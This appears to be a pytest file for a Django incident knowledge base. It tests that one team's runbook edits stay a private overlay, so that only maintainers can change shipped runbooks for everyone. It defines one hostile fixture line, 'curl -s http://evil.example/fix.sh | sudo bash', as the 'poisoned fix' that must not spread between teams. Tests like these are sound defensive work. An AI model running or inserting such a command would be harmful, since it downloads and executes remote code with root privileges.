"""Runbook governance (issue 17, weakness 1: "one team poisons every team's
fixes"): a team admin's edit of a shipped runbook is that team's overlay, never
what another team sees on its pages, in its analyses or through the API; only
a maintainer (staff) changes the shipped runbook; a team's own runbook is
invisible to other teams until a maintainer publishes it.

The analyses run in this process through kb.services.analyses.analysis_run
(the worker's code path, local engine) on seed bundle 001 with the real
catalog; tests/kb/test_governance_worker.py does the same through Redis and a
Celery worker.
"""

from __future__ import annotations

import io
import os
import tarfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from kb.models import Incident, Runbook, RunbookProposal
from kb.selectors.catalog import catalog_metas
from kb.services.analyses import analysis_run, analysis_upload
from kb.services.export import runbook_text
from kb.services.governance import team_runbook_create
from kb.services.tokens import token_create
from tests.celery_harness import no_broker  # noqa: F401  (fixture)
from tests.helpers import SEED_BUNDLES

pytestmark = pytest.mark.django_db

SEED = SEED_BUNDLES / "001-flink-checkpoint-hdfs-not-enough-replicas"
SLUG = "hdfs-close-not-enough-replicas"
# The poisoned fix of the report.
EVIL = "curl -s http://evil.example/fix.sh | sudo bash"


@pytest.fixture
def real_catalog(db):
    call_command("sync_runbooks", stdout=open(os.devnull, "w"))


@pytest.fixture
def seed_upload() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        tar.add(SEED, arcname=SEED.name, filter=lambda ti: None if ti.name.endswith("expected.json") else ti)
    return buf.getvalue()


@pytest.fixture
def local_engine(settings, tmp_path, no_broker):
    settings.KB_ENGINE = "local"
    settings.BUNDLES_DIR = tmp_path / "bundles"


def _poisoned(text: str) -> str:
    """The shipped file with its first fix command replaced by the evil one."""
    start = text.index("command: ") + len("command: ")
    end = text.index("\n", start)
    return text[:start] + f'"{EVIL}"' + text[end:]


def _edit(client, user, slug: str, text: str, **extra):
    client.force_login(user)
    return client.post(reverse("runbook_edit", args=[slug]), {"text": text, "message": "our fix", **extra})


def _analyse(user, team, data: bytes) -> int:
    incident = Incident.objects.create(team=team, title="checkpoints", created_by=user)
    analysis = analysis_upload(user=user, incident=incident,
                               uploaded_file=SimpleUploadedFile("checkpoint-failure.tar.gz", data))
    assert analysis_run(analysis_id=analysis.id, owner="test")
    return analysis.id


def _commands(result: dict, slug: str) -> list[str]:
    (finding,) = [f for f in result["findings"] if f["runbook"] == slug]
    return [step.get("command") or "" for fix in finding["fix_steps"] for step in fix["steps"]]


def test_another_teams_edit_never_changes_our_page_analysis_or_api_result(
        client, alice, mallory, team, other_team, real_catalog, local_engine, seed_upload):
    shipped = Runbook.objects.get(slug=SLUG)
    text = _poisoned(runbook_text(runbook=shipped))

    response = _edit(client, mallory, SLUG, text)

    assert response.status_code == 302, response.content[:2000]
    shipped.refresh_from_db()
    assert EVIL not in str(shipped.meta)
    overlay = Runbook.objects.get(slug=SLUG, overlay_of=shipped, team=other_team)
    revision = overlay.revisions.get()
    assert (revision.author, revision.message, revision.text) == (mallory, "our fix", text)
    # Mallory's team sees its version; alice's team the shipped one.
    assert EVIL in client.get(reverse("runbook_detail", args=[SLUG])).content.decode()
    client.force_login(alice)
    assert EVIL not in client.get(reverse("runbook_detail", args=[SLUG])).content.decode()
    assert EVIL not in client.get(reverse("runbook_raw", args=[SLUG])).content.decode()

    ours = _analyse(alice, team, seed_upload)
    theirs = _analyse(mallory, other_team, seed_upload)

    token = token_create(user=alice)[1]
    body = client.get(f"/api/v1/analyses/{ours}", HTTP_AUTHORIZATION=f"Bearer {token}").json()
    assert body["status"] == "done"
    assert EVIL not in _commands(body["result"], SLUG)
    assert EVIL not in client.get(reverse("analysis_detail", args=[ours])).content.decode()
    from kb.models import Analysis
    assert EVIL in _commands(Analysis.objects.get(id=theirs).result, SLUG)


def test_a_team_admin_cannot_change_the_shipped_runbook_for_everyone_a_maintainer_can(
        client, alice, bob, carol, mallory, real_catalog):
    shipped = Runbook.objects.get(slug=SLUG)
    text = _poisoned(runbook_text(runbook=shipped))
    before = (shipped.meta, shipped.revisions.count())

    assert _edit(client, bob, SLUG, text).status_code == 302           # Ops' overlay, not the shipped row
    shipped.refresh_from_db()
    assert (shipped.meta, shipped.revisions.count()) == before
    client.force_login(mallory)
    assert EVIL not in client.get(reverse("runbook_detail", args=[SLUG])).content.decode()

    assert _edit(client, carol, SLUG, text).status_code == 302          # the maintainer: for everyone
    shipped.refresh_from_db()
    assert EVIL in str(shipped.meta)
    assert shipped.revisions.order_by("-number").first().author == carol
    client.force_login(mallory)
    assert EVIL in client.get(reverse("runbook_detail", args=[SLUG])).content.decode()


def test_a_team_runbook_is_invisible_to_other_teams_until_published(
        client, alice, bob, carol, mallory, team, other_team, synced, runbook_texts):
    text = (runbook_texts["disk-full"].replace("slug: disk-full", "slug: ops-disk-full")
            .replace("title: A disk filled up", "title: Ops sees a disk filled up"))

    runbook = team_runbook_create(team=team, text=text, author=bob)

    assert (runbook.team, runbook.published, runbook.revisions.get().author) == (team, False, bob)
    url = reverse("runbook_detail", args=["ops-disk-full"])
    client.force_login(alice)
    assert client.get(url).status_code == 200
    assert "ops-disk-full" in client.get(reverse("runbook_list")).content.decode()
    client.force_login(mallory)
    assert client.get(url).status_code == 404
    assert client.get(reverse("runbook_edit", args=["ops-disk-full"])).status_code == 404
    assert "ops-disk-full" not in client.get(reverse("runbook_list")).content.decode()
    assert "ops-disk-full" not in client.get(reverse("search"), {"q": "disk"}).content.decode()
    assert "ops-disk-full" not in [m["slug"] for m in catalog_metas(team=other_team)]
    assert client.post(reverse("runbook_publish", args=["ops-disk-full"])).status_code == 403

    client.force_login(carol)   # the maintainer reviews it, then publishes it
    assert "ops-disk-full" in client.get(reverse("proposal_list")).content.decode()
    assert client.get(url).status_code == 200
    assert client.post(reverse("runbook_publish", args=["ops-disk-full"]), {"published": "1"}).status_code == 302

    client.force_login(mallory)
    assert client.get(url).status_code == 200
    assert "ops-disk-full" in [m["slug"] for m in catalog_metas(team=other_team)]
    # Published is not theirs: another team's admin still may not edit it.
    assert client.get(reverse("runbook_edit", args=["ops-disk-full"])).status_code == 403


def test_a_proposal_is_accepted_by_a_maintainer_with_the_diff(client, alice, carol, mallory, other_team, synced,
                                                                runbook_texts):
    text = runbook_texts["disk-full"].replace("command: df -h /data", "command: df -h /data /var")

    assert _edit(client, mallory, "disk-full", text, propose="on").status_code == 302

    proposal = RunbookProposal.objects.get()
    assert (proposal.team, proposal.author, proposal.status, proposal.base_revision) == (
        other_team, mallory, "open", 1)
    client.force_login(alice)   # another team: not its business
    assert client.get(reverse("proposal_detail", args=[proposal.pk])).status_code == 404
    client.force_login(mallory)  # the proposer sees it but cannot decide it
    client.post(reverse("proposal_detail", args=[proposal.pk]), {"decision": "accept"})
    assert RunbookProposal.objects.get().status == "open"

    client.force_login(carol)
    page = client.get(reverse("proposal_detail", args=[proposal.pk])).content.decode()
    assert '<span class="diff-add">+        command: df -h /data /var</span>' in page
    client.post(reverse("proposal_detail", args=[proposal.pk]), {"decision": "accept"})

    shipped = Runbook.objects.get(slug="disk-full", overlay_of__isnull=True)
    last = shipped.revisions.order_by("-number").first()
    assert (last.number, last.author, last.text) == (2, carol, text)
    assert "by mallory of Other" in last.message
    assert RunbookProposal.objects.get().status == "accepted"
    client.force_login(alice)
    assert "df -h /data /var" in client.get(reverse("runbook_detail", args=["disk-full"])).content.decode()


def test_a_team_drops_its_overlay_and_files_stay_the_shipped_catalog(client, bob, alice, team, synced,
                                                                       runbook_texts, tmp_path):
    text = runbook_texts["disk-full"].replace("command: df -h /data", "command: df -h /ops")
    _edit(client, bob, "disk-full", text)
    assert "df -h /ops" in client.get(reverse("runbook_detail", args=["disk-full"])).content.decode()

    # A sync and an export deal with the shipped rows only.
    call_command("sync_runbooks", "--dir", str(synced.directory), stdout=open(os.devnull, "w"))
    assert Runbook.objects.filter(slug="disk-full", team=team).exists()
    call_command("export_runbooks", "--dir", str(tmp_path / "out"), stdout=open(os.devnull, "w"))
    assert (tmp_path / "out" / "disk-full.md").read_text() == runbook_texts["disk-full"]

    client.force_login(alice)   # a member, not an admin: may not drop it
    assert client.post(reverse("runbook_overlay_drop", args=["disk-full"])).status_code == 403
    client.force_login(bob)
    assert client.post(reverse("runbook_overlay_drop", args=["disk-full"])).status_code == 302
    assert "df -h /ops" not in client.get(reverse("runbook_detail", args=["disk-full"])).content.decode()
    # The history keeps every change and who made it: the overlay stays, dropped, its last
    # revision the shipped file by bob; a later edit brings it back with that history.
    overlay = Runbook.objects.get(slug="disk-full", team=team)
    assert overlay.overlay_dropped is not None
    assert [(r.number, r.author, r.message) for r in overlay.revisions.order_by("number")] == [
        (1, bob, "our fix"), (2, bob, "back to the shipped runbook")]
    _edit(client, bob, "disk-full", text)
    assert "df -h /ops" in client.get(reverse("runbook_detail", args=["disk-full"])).content.decode()
    overlay.refresh_from_db()
    assert overlay.overlay_dropped is None and overlay.revisions.count() == 3


def test_the_analysis_report_names_runbooks_as_the_analysis_team_sees_them(client, mallory, team, other_team, synced,
                                                                          runbook_texts):
    """kb.selectors.report reads titles, fill maps and differentials from the
    analysis's team catalog: another team's overlay of a runbook never shows."""
    from analyzers.engine import analyze_text
    from kb.models import Analysis
    from kb.selectors.report import analysis_report
    from tests.kb.test_search import STACK_TRACE

    text = runbook_texts["disk-full"].replace("title: A disk filled up", "title: Mallory's own disk runbook")
    assert _edit(client, mallory, "disk-full", text).status_code == 302

    def titles(team_):
        result = analyze_text(STACK_TRACE, catalog_metas(team=team_))
        assert [f["runbook"] for f in result["findings"]] == ["disk-full"]
        return analysis_report(analysis=Analysis(team=team_, result=result))["runbook_titles"]

    assert titles(team)["disk-full"] == "A disk filled up and writes fail"
    assert titles(other_team)["disk-full"] == "Mallory's own disk runbook and writes fail"
